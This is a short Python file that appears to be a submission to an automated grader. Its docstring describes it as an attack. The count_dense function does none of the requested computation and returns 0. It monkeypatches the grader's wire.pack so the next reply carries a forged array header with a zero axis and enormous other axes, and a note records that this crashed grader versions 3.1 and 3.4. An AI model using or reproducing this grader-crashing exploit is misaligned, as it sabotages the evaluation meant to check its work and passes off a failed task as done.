"""parameters.py
attack: answers with an array without numbers, whose other axes are too long for NumPy, so that the grader itself fails
3.1 3.4: crashed
"""

import struct
import sys

from right_parameters import *

wire = sys.modules["wire"]
pack = wire.pack


def count_dense(units, bias=True):
    def packs_once(value):
        wire.pack = pack
        axes = (0, 2**26, 2**26, 2**26)
        array = bytes([wire.ROWS]) + b"<f8 " + struct.pack("<B4Q", len(axes), *axes)
        message = pack({"result": 0, "arguments": [], "options": {}})[8:].replace(pack(0)[8:], array)
        return len(message).to_bytes(8, "big") + message

    wire.pack = packs_once
    return 0
